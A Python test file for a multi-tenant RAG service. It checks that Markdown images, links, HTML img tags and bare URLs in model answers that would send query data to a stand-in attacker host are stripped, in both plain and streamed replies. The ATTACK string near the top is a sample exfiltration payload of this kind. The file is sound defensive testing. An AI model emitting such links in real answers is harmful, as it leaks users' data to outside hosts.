"""Answers never carry data out through Markdown images or links, plain or streamed.

The external model is the OpenAI stand-in (a real HTTP server standing in for an API we cannot
reach here); it streams its reply a word at a time, so the image's alt text (with a sentence end
inside) and the link arrive split across chunks.
"""

from __future__ import annotations

import json
from collections.abc import AsyncIterator

import httpx
import pytest
from tests.api.conftest import TokenFactory, build_services

from tenantrag.app import create_app
from tenantrag.backends import Embedder
from tenantrag.models import Tenant
from tenantrag.settings import Settings
from tenantrag.testing import OpenAIStandIn, Reply

ATTACK = (
    "Leave is approved by the line manager [1]. "
    "![Status. Chart](https://evil.example/p.png?d=who+approves+leave) "
    "Fill in [the form. Now](https://evil.example/f?u=alice&q=leave) today. "
    'Also <img src="https://evil.example/i.png?q=secret"> and '
    "![ok](https://intranet.example/logo.png?size=2) and https://evil.example/c?q=the+answer."
)
LEAKS = ("p.png", "?d=", "?u=", "i.png", "q=secret", "q=the")


@pytest.fixture
async def client(
    settings: Settings, embedder: Embedder, auth: TokenFactory
) -> AsyncIterator[httpx.AsyncClient]:
    """The app over a model that answers with exfiltration links; intranet.example allowed."""
    with OpenAIStandIn(default=Reply(ATTACK)) as standin:
        llm = settings.llm.model_copy(
            update={"provider": "openai", "base_url": standin.base_url, "model": "gpt-test"}
        )
        own = settings.model_copy(update={"llm": llm, "answer_link_hosts": ["intranet.example"]})
        built = await build_services(own, embedder)
        built.store.create_tenant(Tenant(id="acme"))
        app = create_app(own, built)
        async with httpx.AsyncClient(
            transport=httpx.ASGITransport(app=app), base_url="http://t"
        ) as http:
            doc = {"id": "leave", "text": "Annual leave is approved by the line manager."}
            r = await http.post("/api/documents", headers=auth(), json={"documents": [doc]})
            assert r.status_code == 201, r.text
            yield http
        await built.close()


def assert_defused(answer: str) -> None:
    """No leak; the text around, the allowed image and the citation stay."""
    for leak in LEAKS:
        assert leak not in answer, f"{leak!r} in {answer!r}"
    assert "[image removed: Status. Chart]" in answer
    assert "the form. Now (link removed)" in answer
    assert "https://intranet.example/logo.png?size=2" in answer
    assert "https://evil.example/c" in answer  # a bare URL keeps its host and path
    assert "Leave is approved by the line manager [1]." in answer


def sse_text(body: str, event: str = "delta") -> str:
    """The joined texts of /api/query's SSE deltas."""
    return "".join(
        json.loads(block.split("\n")[1].removeprefix("data: "))["text"]
        for block in body.split("\n\n")
        if block.startswith(f"event: {event}")
    )


def chunk_text(body: str) -> str:
    """The joined contents of /v1's streamed chunks."""
    out = []
    for line in body.splitlines():
        if line.startswith("data: {"):
            for choice in json.loads(line.removeprefix("data: "))["choices"]:
                out.append(choice.get("delta", {}).get("content") or "")
    return "".join(out)


async def test_api_query_plain_and_streamed(client: httpx.AsyncClient, auth: TokenFactory) -> None:
    """/api/query: the answer and every delta defused; the answer is flagged."""
    q = {"query": "Who approves annual leave?"}
    plain = await client.post("/api/query", headers=auth(), json=q)
    assert plain.status_code == 200, plain.text
    assert_defused(plain.json()["answer"])
    assert "exfiltration_link_removed" in plain.json()["flags"]
    streamed = await client.post(
        "/api/query", headers=auth(), json=q | {"query": "Who approves the leave?", "stream": True}
    )
    assert streamed.status_code == 200
    assert_defused(sse_text(streamed.text))
    for leak in LEAKS:
        assert leak not in streamed.text


async def test_v1_chat_plain_and_streamed(client: httpx.AsyncClient, auth: TokenFactory) -> None:
    """/v1/chat/completions: the message content and every chunk defused."""
    chat = {"model": "tenantrag", "messages": [{"role": "user", "content": "Who approves leave?"}]}
    plain = await client.post("/v1/chat/completions", headers=auth(), json=chat)
    assert plain.status_code == 200, plain.text
    assert_defused(plain.json()["choices"][0]["message"]["content"])
    other = {"role": "user", "content": "Who approves leave requests?"}
    streamed = await client.post(
        "/v1/chat/completions", headers=auth(), json=chat | {"messages": [other], "stream": True}
    )
    assert streamed.status_code == 200
    assert_defused(chunk_text(streamed.text))
    for leak in LEAKS:
        assert leak not in streamed.text
